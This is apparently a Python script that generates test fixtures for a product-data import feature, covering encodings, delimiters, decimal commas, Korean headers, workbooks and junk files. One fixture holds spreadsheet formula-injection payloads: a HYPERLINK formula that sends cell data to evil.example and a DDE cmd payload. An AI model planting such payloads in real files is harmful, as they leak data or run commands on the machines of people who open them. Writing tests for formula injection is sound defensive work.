"""Writes the sample files in this folder (run from the repository root: python tests/data/imports/generate.py).

The files are committed; this script documents how each was made and remakes them identically. Each one
exercises one thing an uploaded file can be: an encoding, a delimiter, a decimal convention, quoted
newlines, blank trailing rows, formula-like cells, Korean headers, one row per item, a workbook, junk.
"""

from __future__ import annotations

import csv
import io
import json
import random
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
EXAMPLES = ROOT / "passports" / "schemas" / "examples"

HEADER = ["gtin", "name", "name_ko", "category", "cn_code", "brand", "description_ko"]
NAMES = [
    ("LFP battery pack 48 V", "LFP 배터리 팩 48 V", "battery", "85076000", "한빛에너지", "고정형 에너지 저장 장치"),
    ("Cotton T-shirt", "면 티셔츠", "textile", "61091000", "소담", "유기농 면 100%"),
    ("Rebar B500B", "철근 B500B", "steel", "72142000", "대한철강", "전기로 철근, 재활용 스크랩 92%"),
    ("Office chair", "사무용 의자", "espr-core", "94013000", "편안가구", "등받이 높이 조절 가능"),
]


def gs1_check_digit(body: str) -> int:
    """GS1 General Specifications §7.9: weights 3,1,3,1... from the right of the body."""
    total = sum(int(digit) * (3 if index % 2 == 0 else 1) for index, digit in enumerate(reversed(body)))
    return (10 - total % 10) % 10


def gtin(n: int) -> str:
    body = f"0880{n:09d}"
    return body + str(gs1_check_digit(body))


def product_rows(count: int, start: int = 1) -> list[list[str]]:
    rows = []
    for n in range(start, start + count):
        name, name_ko, category, cn, brand, description = NAMES[n % len(NAMES)]
        rows.append([gtin(n), f"{name} {n}", f"{name_ko} {n}", category, cn, brand, description])
    return rows


def write_csv(path: Path, rows: list[list[Any]], *, encoding: str, delimiter: str = ",", bom: bytes = b"") -> None:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    path.write_bytes(bom + buffer.getvalue().encode(encoding))


def flatten(data: Any, prefix: str = "") -> list[tuple[str, Any]]:
    """Nested data as dotted keys, items numbered from 1: the import's column convention."""
    if isinstance(data, dict):
        return [pair for key, value in data.items() for pair in flatten(value, f"{prefix}.{key}" if prefix else key)]
    if isinstance(data, list):
        if not data:
            return [(prefix, "none")]  # a list declared empty, in the list's own column
        return [pair for n, value in enumerate(data, 1) for pair in flatten(value, f"{prefix}.{n}")]
    return [(prefix, data)]


def european(value: Any) -> str:
    """A number as German Excel writes it: decimal comma, dot between thousands."""
    if isinstance(value, bool):
        return "WAHR" if value else "FALSCH"
    if isinstance(value, int):
        return f"{value:,}".replace(",", ".")
    if isinstance(value, float):
        whole, _, fraction = repr(value).partition(".")
        sign = "-" if whole.startswith("-") else ""
        grouped = f"{int(whole.lstrip('-')):,}".replace(",", ".")
        return f"{sign}{grouped},{fraction}"
    return str(value)


def main() -> None:
    rows = product_rows(20)
    write_csv(HERE / "products-utf8.csv", [HEADER, *rows], encoding="utf-8")
    write_csv(
        HERE / "products-utf8-bom-semicolon.csv", [HEADER, *rows], encoding="utf-8", delimiter=";", bom=b"\xef\xbb\xbf"
    )
    write_csv(HERE / "products-cp949.csv", [HEADER, *rows], encoding="cp949")
    write_csv(HERE / "products-euc-kr-tab.tsv", [HEADER, *rows], encoding="euc_kr", delimiter="\t")
    write_csv(HERE / "products-utf16le-tab.txt", [HEADER, *rows], encoding="utf-16-le", delimiter="\t", bom=b"\xff\xfe")
    write_csv(
        HERE / "products-utf16be-semicolon.csv", [HEADER, *rows], encoding="utf-16-be", delimiter=";", bom=b"\xfe\xff"
    )

    quoted = [[*HEADER, "description"]]
    for n, row in enumerate(product_rows(6), 1):
        quoted.append([*row, f'Line one of {n}\nline two, with a comma\nand "quotes"'])
    write_csv(HERE / "products-quoted-newlines.csv", quoted, encoding="utf-8")

    bad = [HEADER]
    for n, row in enumerate(product_rows(200), 1):
        if n % 20 == 0:  # every 20th row: 10 of 200, 5 %
            problem = (n // 20) % 3
            if problem == 0:
                row[0] = row[0][:-1] + str((int(row[0][-1]) + 1) % 10)  # wrong check digit
            elif problem == 1:
                row[1] = ""  # name missing
            else:
                row[4] = "8507"  # CN code too short
        bad.append(row)
    write_csv(HERE / "products-5pct-bad.csv", bad, encoding="utf-8")

    trailing = [HEADER, *product_rows(5), [""] * len(HEADER), [""] * len(HEADER), []]
    write_csv(HERE / "products-trailing-blank.csv", trailing, encoding="utf-8")

    formulas = [HEADER, *product_rows(4)]
    formulas[1][1] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    formulas[2][1] = "+cmd|' /C calc'!A0"
    formulas[3][1] = "-2+3"
    formulas[4][1] = "@SUM(1+1)"
    write_csv(HERE / "products-formulas.csv", formulas, encoding="utf-8")

    korean_header = [
        "GTIN(국제거래단품식별코드)",
        "제품명(영어)",
        "제품명(한국어)",
        "범주",
        "CN 코드(품목번호)",
        "브랜드",
        "설명(한국어)",
    ]
    write_csv(HERE / "products-korean-headers-cp949.csv", [korean_header, *product_rows(5)], encoding="cp949")

    battery = json.loads((EXAMPLES / "battery-1.0-ev-pack.json").read_text(encoding="utf-8"))
    pairs = flatten(battery)
    header = ["gtin", *(key for key, _ in pairs)]
    body = [[gtin(900 + n), *(european(value) for _, value in pairs)] for n in range(3)]
    write_csv(HERE / "battery-decimal-comma.csv", [header, *body], encoding="utf-8", delimiter=";")

    textile = json.loads((EXAMPLES / "textile-1.0-recycled-padded-jacket.json").read_text(encoding="utf-8"))
    write_per_row(textile)
    write_xlsx()
    write_junk()


def write_xlsx() -> None:
    """A workbook as Excel users make it: GTINs typed as numbers, Korean text, a blank row at the end."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "제품"
    sheet.append([*HEADER, "expected_lifetime_years"])
    for n, row in enumerate(product_rows(8, start=300), 1):
        body = row[0].lstrip("0")
        row[0] = int(body) if n % 2 else row[0]  # every other GTIN typed as a number, as Excel would
        sheet.append([*row, 10 + n])
    sheet.append([None] * (len(HEADER) + 1))
    workbook.properties.creator = "tests"
    workbook.properties.created = workbook.properties.modified = __import__("datetime").datetime(2026, 5, 4)
    workbook.save(HERE / "products.xlsx")


def write_per_row(textile: dict[str, Any]) -> None:
    """Textile passports with the fibre composition one row per component (no item number in its headers)."""
    components = textile["fibre_composition"]
    rest = {key: value for key, value in textile.items() if key != "fibre_composition"}
    pairs = flatten(rest)
    fibre_columns = sorted(
        {key for component in components for key, _ in flatten(component["fibres"], "fibre_composition.fibres")}
    )
    header = ["gtin", *(key for key, _ in pairs), "fibre_composition.component", *fibre_columns]
    rows = []
    for n in range(2):
        for position, component in enumerate(components):
            fibres = dict(flatten(component["fibres"], "fibre_composition.fibres"))
            shared = [value for _, value in pairs] if position == 0 else [""] * len(pairs)
            rows.append([gtin(950 + n), *shared, component["component"], *(fibres.get(k, "") for k in fibre_columns)])
    write_csv(HERE / "textile-per-row.csv", [header, *rows], encoding="utf-8")


def write_junk() -> None:
    generator = random.Random(20260504)
    png = b"\x89PNG\r\n\x1a\n" + bytes(generator.randrange(256) for _ in range(2048))
    (HERE / "junk-image.csv").write_bytes(png)
    (HERE / "junk-binary.csv").write_bytes(bytes(generator.randrange(256) for _ in range(4096)))


if __name__ == "__main__":
    main()
